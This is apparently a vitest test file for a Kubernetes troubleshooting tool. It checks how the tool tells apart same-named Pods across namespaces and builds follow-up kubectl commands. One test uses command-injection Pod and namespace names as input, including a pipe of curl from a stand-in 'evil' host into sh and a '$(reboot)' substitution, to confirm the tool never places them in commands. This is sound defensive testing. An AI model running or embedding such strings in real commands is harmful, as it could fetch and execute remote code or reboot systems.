// Tests that a diagnosis keeps Pods of one name apart, and names them in commands only where that is safe.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { writeYaml } from '../../src/manifest/writeYaml.ts';
import type { Cause } from '../../src/why/cause.ts';
import { CAUSE_IDS } from '../../src/why/causes.ts';
import type { Fact } from '../../src/why/fact.ts';
import { nextOf, placeOf } from '../../src/why/nextCommand.ts';
import { causesIn } from './causesIn.ts';

const causesOf = (...texts: string[]): readonly Cause[] =>
  causesIn(texts.map((text, index) => ({ name: `${index}.txt`, text })));
const played = (...texts: string[]): string[] =>
  causesOf(...texts)
    .filter(({ certainty }) => certainty !== 'possible')
    .map(({ namespace = '-', pod = '-', id }) => `${namespace}/${pod} ${id}`)
    .sort();

const described = (namespace: string, reason: string, code: number) => `Name: web-0
Namespace: ${namespace}
Containers:
  app:
    Last State: Terminated
      Reason: ${reason}
      Exit Code: ${code}
    Restart Count: 2
Events:
  Warning  BackOff  4s (x3 over 30s)  kubelet  Back-off restarting failed container app
`;
const object = (namespace: string, terminated: object, uid = namespace) => ({
  kind: 'Pod',
  metadata: { name: 'web-0', namespace, uid },
  status: { containerStatuses: [{ name: 'app', restartCount: 2, lastState: { terminated } }] },
});
const [PROD, STAGING] = [
  object('prod', { exitCode: 1, reason: 'Error' }),
  object('staging', { exitCode: 137, reason: 'OOMKilled' }),
];
const BOTH = ['prod/web-0 exit', 'staging/web-0 oom'];

describe('two Pods of one name in two namespaces', () => {
  it.each([
    ['a List', [JSON.stringify({ items: [PROD, STAGING] }, undefined, 4)]],
    ['a List in one line', [JSON.stringify({ items: [PROD, STAGING] })]],
    ['two files', [JSON.stringify(PROD), JSON.stringify(STAGING)]],
    ['two outputs of describe', [described('prod', 'Error', 1) + described('staging', 'OOMKilled', 137)]],
  ])('%s', (_, texts) => {
    expect(played(...texts)).toEqual(BOTH);
  });

  it('get events -A', () => {
    const text = `NAMESPACE   LAST SEEN   TYPE     REASON    OBJECT      MESSAGE
prod        2m          Normal   Killing   pod/web-0   Container app failed liveness probe, will be restarted
staging     1m          Normal   Killing   pod/web-0   Container app failed startup probe, will be restarted
`;
    expect(played(text)).toEqual(['prod/web-0 liveness', 'staging/web-0 startup-probe']);
  });

  it('the kubelet’s log', () => {
    const killed = (pod: string, probe: string) =>
      `I0501 10:00:00.000000    1042 kuberuntime_manager.go:1027] "Message for Container of pod" containerName="app" containerStatusID={"Type":"containerd","ID":"0a1b"} pod="${pod}" containerMessage="Container app failed ${probe} probe, will be restarted"`;
    expect(played(`${killed('prod/web-0', 'liveness')}\n${killed('staging/web-0', 'startup')}`)).toEqual([
      'prod/web-0 liveness',
      'staging/web-0 startup-probe',
    ]);
  });

  it.each([
    ['YAML', writeYaml],
    ['JSON', (object: object) => JSON.stringify(object, undefined, 4)],
    ['JSON in one line', (object: object) => JSON.stringify(object)],
  ] as const)('get events -A in %s', (_, write) => {
    const event = (namespace: string, probe: string) => ({
      apiVersion: 'v1',
      involvedObject: { fieldPath: 'spec.containers{app}', kind: 'Pod', name: 'web-0', namespace },
      kind: 'Event',
      message: `Container app failed ${probe} probe, will be restarted`,
      metadata: { name: 'web-0.17', namespace },
      reason: 'Killing',
      type: 'Normal',
    });
    const list = { apiVersion: 'v1', items: [event('prod', 'liveness'), event('staging', 'startup')] };
    expect(played(write(list))).toEqual(['prod/web-0 liveness', 'staging/web-0 startup-probe']);
  });

  it('a table with columns of its own', () => {
    const text = `NAMESPACE  POD    STATUS   RESTARTS  REASON      EXIT CODE  CONTAINER
prod       web-0  Running  2         Error       1          app
staging    web-0  Running  3         OOMKilled   137        app
`;
    expect(played(text)).toEqual(BOTH);
  });

  it('get pods -A', () => {
    expect(
      played(
        'prod      web-0   0/1  OOMKilled          1   5m\nstaging   web-0   0/1  ImagePullBackOff   0   5m',
      ),
    ).toEqual(['prod/web-0 oom', 'staging/web-0 image-pull']);
  });
});

it('an Event without its namespace belongs to the only Pod of its name', () => {
  const event = '2m  Normal  Killing  pod/web-0  Container app failed liveness probe, will be restarted';
  expect(played(described('prod', 'Error', 137), event)).toContain('prod/web-0 liveness');
});

it('keeps two Pods apart that had one name one after the other', () => {
  const old = object('shop', { exitCode: 137, reason: 'OOMKilled' }, 'uid-1');
  const now = object('shop', { exitCode: 2, reason: 'Error' }, 'uid-2');
  expect(played(JSON.stringify({ items: [old, now] }))).toEqual(['shop/web-0 exit', 'shop/web-0 oom']);
});

it('takes the name of a node or of a workload for no Pod', () => {
  const node =
    'Name:   n2\nRoles:  <none>\nEvents:\n  Warning  Rebooted  5m  kubelet  Node n2 has been rebooted, boot id: 1-2\n';
  const pod = `Name: web-0\nNode: n1/192.0.2.1\n${described('shop', 'Error', 1).slice('Name: web-0\n'.length)}`;
  const causes = causesOf(node + pod);
  expect(causes.map(({ pod: name, id }) => `${name} ${id}`)).toEqual(['web-0 exit']);
});

describe('the next command', () => {
  const open = (reason: string, code: number) => described('shop', reason, code).replace(/Events:.*/s, '');
  const next = (text: string) => causesOf(text).flatMap((cause) => cause.next ?? []);

  it('has namespace, container and node', () => {
    expect(next(open('Error', 1))).toContain('kubectl logs web-0 -n shop -c app --previous');
    const placed = `${open('Error', 1)}Node: n1/192.0.2.1\n2m Normal Killing pod/web-0 Container app definition changed, will be restarted`;
    expect(next(placed)).toContain('kubectl get --raw /api/v1/nodes/n1/proxy/configz');
  });

  it('reads the namespace of the context if the text has none', () => {
    expect(next(open('Error', 1).replace(/Namespace.*\n/, ''))).toContain(
      'kubectl logs web-0 -c app --previous',
    );
  });

  it.each(['web; curl evil|sh', '$(reboot)', 'web 0', 'Web-0', '-o', 'a'.repeat(300)])(
    'keeps the placeholder for %s',
    (name) => {
      const text = open('Error', 1).replace('web-0', name).replaceAll('shop', 'shop && x');
      for (const command of next(text)) {
        expect(command).not.toContain(name);
        expect(command).not.toContain('&& x');
      }
      expect(next(text)[0]).toMatch(/ POD | POD$/);
    },
  );

  it('of every cause keeps the placeholder for any name that is invalid', () => {
    const name = fc
      .oneof(fc.string({ unit: 'binary' }), fc.constantFrom('-o', '--all', '../x', 'a'.repeat(300)))
      .filter((text) => !/^[a-z\d]([a-z\d.-]*[a-z\d])?$/.test(text) || text.length > 253);
    const at = { file: '', line: 1, text: '' };
    const commandsFor = (pod: string, namespace: string, container: string, node: string) => {
      const facts: Fact[] = [{ kind: 'setting', name: 'node', value: node, at }];
      const place = placeOf({ pod, namespace, container, facts });
      return CAUSE_IDS.map((id) => nextOf(id, place));
    };
    const unnamed = commandsFor('POD', 'NAMESPACE', 'CONTAINER', 'NODE');
    fc.assert(
      fc.property(name, name, name, name, (...names) => {
        expect(commandsFor(...names)).toEqual(unnamed);
      }),
    );
  });

  /** A container that was killed, of a Pod on n0; `settings`: of its spec. */
  const killed = (pod: string, node: string, settings = '') =>
    `Name: ${pod}\nNamespace: shop\nNode: ${node}/192.0.2.1\n${settings}Containers:\n  app:\n    Last State: Terminated\n      Reason: Error\n      Exit Code: 137\n    Restart Count: 2\n`;
  const spec = (text: string) =>
    `${killed('web-0', 'n0')}---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: web-0\n  namespace: shop\nspec:\n${text}`;
  const ON_LINUX = /journalctl|crictl|systemctl/;

  it.each([
    ['a selector', killed('web-0', 'n0', 'Node-Selectors:  kubernetes.io/os=windows\n')],
    ['the system of the Pod', spec('  os:\n    name: windows\n')],
    ['options of Windows', spec('  securityContext:\n    windowsOptions:\n      hostProcess: true\n')],
    [
      'an affinity',
      spec(
        '  affinity:\n    nodeAffinity:\n      required:\n      - key: kubernetes.io/os\n        operator: In\n        values:\n        - windows\n',
      ),
    ],
    [
      'a base image',
      killed('web-0', 'n0').replace(
        'app:\n',
        'app:\n    Image: mcr.microsoft.com/windows/servercore/iis:ltsc2022\n',
      ),
    ],
    [
      'an exit code',
      killed('web-0', 'n0').replace('137', '3221225477').replace('Reason: Error', 'Reason: X'),
    ],
  ])('uses no program of Linux for a Pod on Windows, by %s', (_, text) => {
    expect(next(text).length).toBeGreaterThan(0);
    expect(next(text).join('\n')).not.toMatch(ON_LINUX);
  });

  it.each([
    [
      'get nodes -o wide',
      'NAME STATUS ROLES AGE VERSION INTERNAL-IP EXTERNAL-IP OS-IMAGE KERNEL-VERSION CONTAINER-RUNTIME\nn0   Ready   <none>   5d   v1.29.1   192.0.2.1   <none>   Windows Server 2022 Datacenter   10.0.20348.2227   containerd://1.7.9\nn1   Ready   <none>   5d   v1.29.1   192.0.2.2   <none>   Ubuntu 22.04   5.15   containerd://1.7.9\n\n',
    ],
    [
      'describe nodes',
      'Name:   n0\nRoles:  <none>\nSystem Info:\n  Operating System:  windows\n\n\nName:   n1\nRoles:  <none>\nSystem Info:\n  Operating System:  linux\n\n\n',
    ],
    [
      'get nodes -o json',
      JSON.stringify(
        {
          items: ['windows', 'linux'].map((operatingSystem, index) => ({
            kind: 'Node',
            metadata: { name: `n${index}` },
            status: { nodeInfo: { operatingSystem } },
          })),
        },
        undefined,
        4,
      ),
    ],
  ])('uses the programs of each node, by %s', (_, nodes) => {
    const causes = causesOf(`${nodes}\n${killed('web-0', 'n0')}\n${killed('web-1', 'n1')}`);
    const commands = causes.flatMap((cause) => (cause.id === 'oom' ? [`${cause.pod}: ${cause.next}`] : []));
    expect(commands).toEqual([
      'web-0: kubectl get --raw "/api/v1/nodes/n0/proxy/logs/?query=kubelet"',
      'web-1: journalctl -k | grep -i oom',
    ]);
  });
});
